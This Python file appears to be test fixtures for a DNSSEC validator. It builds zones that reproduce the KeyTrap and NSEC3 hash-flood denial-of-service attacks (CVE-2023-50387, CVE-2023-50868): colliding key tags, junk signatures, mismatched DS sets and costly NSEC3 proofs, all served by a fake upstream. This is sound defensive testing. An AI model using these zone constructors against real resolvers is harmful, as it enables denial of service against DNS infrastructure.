# SPDX-License-Identifier: BSD-2-Clause
"""Which zones cost a validator much?  Colliding keys, floods of signatures, huge exponents, floods
of DS and NSEC3 hashes (CVE-2023-50387, CVE-2023-50868).  The liar serves them as its upstream."""

import os
import random
import time

import dns.dnssec
import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdata
import dns.rdatatype as T
import dns.rrset
from cryptography.hazmat.primitives.asymmetric import ec, rsa

ZONE = dns.name.from_text("trap.")
CHILD = dns.name.from_text("child.trap.")
SIZE = 2048


def _dnskey(exponent, modulus):
    """A DNSKEY from its numbers (RFC 3110), which need not make sense."""
    e = exponent.to_bytes((exponent.bit_length() + 7) // 8, "big")
    length = bytes([len(e)]) if len(e) < 256 else b"\0" + len(e).to_bytes(2, "big")
    wire = b"\x01\x01\x03\x08" + length + e + modulus
    return dns.rdata.from_wire("IN", "DNSKEY", wire, 0, len(wire))


def colliding_keys(modulus, count, exponent):
    """`count` keys of one tag: a tag does not see the order of 16-bit words."""
    words = [modulus[i:i + 2] for i in range(0, len(modulus), 2)]
    shuffle = random.Random(1).shuffle
    keys = []
    for _ in range(count):
        middle = words[1:-1]
        shuffle(middle)
        keys.append(_dnskey(exponent, b"".join([words[0], *middle, words[-1]])))
    assert len({dns.dnssec.key_id(k) for k in keys}) == 1
    return keys


def junk_signatures(rrset, count, tag, signer):
    """Signatures that look right until somebody verifies them."""
    now = int(time.time())
    wires = []
    for _ in range(count):
        head = (int(rrset.rdtype).to_bytes(2, "big") + bytes([8, len(rrset.name.labels) - 1])
                + (300).to_bytes(4, "big") + (now + 86400).to_bytes(4, "big")
                + (now - 3600).to_bytes(4, "big") + tag.to_bytes(2, "big"))
        wires.append(head + signer.to_wire() + b"\0" + os.urandom(SIZE // 8 - 1))
    return _rrsig(rrset.name, [dns.rdata.from_wire("IN", "RRSIG", w, 0, len(w)) for w in wires])


def _rrsig(name, records):
    return dns.rrset.from_rdata_list(name, 300, records)


class Trap:
    """A zone under an anchor of its own; as an upstream of the liar it answers from memory.
    keys × signatures: colliding keys, and junk signatures over the TLSA set."""

    def __init__(self, keys=1, signatures=1, exponent=65537, ds=0):
        self.key = rsa.generate_private_key(public_exponent=65537, key_size=SIZE)
        modulus = self.key.public_key().public_numbers().n.to_bytes(SIZE // 8, "big")
        self.good = _dnskey(65537, modulus)
        self.anchor = f"{ZONE} 300 IN DNSKEY {self.good.to_text()}\n"
        self.answers = {}
        colliding = colliding_keys(modulus, keys, exponent)
        self._put_signed(dns.rrset.from_rdata_list(ZONE, 300, [self.good, *colliding]))
        tlsa = dns.rrset.from_text("_853._tcp.ns1.trap.", 300, "IN", "TLSA", "3 1 1 " + "ab" * 32)
        tag = dns.dnssec.key_id(colliding[0])
        self._put(tlsa, junk_signatures(tlsa, signatures, tag, ZONE))
        if ds:
            self._add_child(ds)

    def _put(self, rrset, signatures):
        self.answers[rrset.name, rrset.rdtype] = [rrset, signatures]

    def _put_signed(self, rrset):
        signature = dns.dnssec.sign(rrset, self.key, ZONE, self.good, lifetime=86400)
        self._put(rrset, _rrsig(rrset.name, [signature]))

    def _add_child(self, count):
        """A child whose DS set fits none of its many keys, although every tag does."""
        keys = [_dnskey(65537, os.urandom(1) + b"\x01" * (SIZE // 8 - 3) + i.to_bytes(2, "big"))
                for i in range(60)]
        tags = [dns.dnssec.key_id(k) for k in keys]
        texts = [f"{tags[i % len(tags)]} 8 2 {i:064x}" for i in range(count)]
        self._put_signed(dns.rrset.from_text(CHILD, 300, "IN", "DS", *texts))
        keyset = dns.rrset.from_rdata_list(CHILD, 300, keys)
        self._put(keyset, junk_signatures(keyset, 8, tags[0], CHILD))
        tlsa = dns.rrset.from_text("_853._tcp.ns1.child.trap.", 300, "IN", "TLSA",
                                   "3 1 1 " + "ab" * 32)
        self._put(tlsa, junk_signatures(tlsa, 8, tags[0], CHILD))

    def ask(self, name, rdtype):
        """What an upstream does; what is not there is empty, without a proof."""
        reply = dns.message.Message()
        reply.flags = dns.flags.QR | dns.flags.RA
        reply.answer = list(self.answers.get((name, rdtype), []))
        return reply


class HashTrap:
    """A deep name under NSEC3 records that match nothing, so that every label is hashed in vain."""

    def __init__(self, iterations=50, records=40):
        self.key = ec.generate_private_key(ec.SECP256R1())
        self.good = dns.dnssec.make_dnskey(self.key.public_key(), "ECDSAP256SHA256", 257)
        self.anchor = f"{ZONE} 300 IN DNSKEY {self.good.to_text()}\n"
        self.keys = self._signed(dns.rrset.from_rdata_list(ZONE, 300, [self.good]))
        self.proof = [rrset for i in range(records) for rrset in self._nsec3(i, iterations)]

    def _signed(self, rrset):
        signature = dns.dnssec.sign(rrset, self.key, ZONE, self.good, lifetime=86400)
        return [rrset, _rrsig(rrset.name, [signature])]

    def _nsec3(self, number, iterations):
        """Spans of one hash each, with a salt as long as it may be."""
        first = f"{number:04d}" + "0" * 28
        last = first[:-1] + "1"
        return self._signed(dns.rrset.from_text(
            f"{first}.trap.", 300, "IN", "NSEC3", f"1 0 {iterations} {'ab' * 255} {last} A RRSIG"))

    def ask(self, name, rdtype):
        reply = dns.message.Message()
        reply.flags = dns.flags.QR | dns.flags.RA
        if (name, rdtype) == (ZONE, T.DNSKEY):
            reply.answer = list(self.keys)
        else:
            reply.set_rcode(dns.rcode.NXDOMAIN)
            reply.authority = list(self.proof)
        return reply
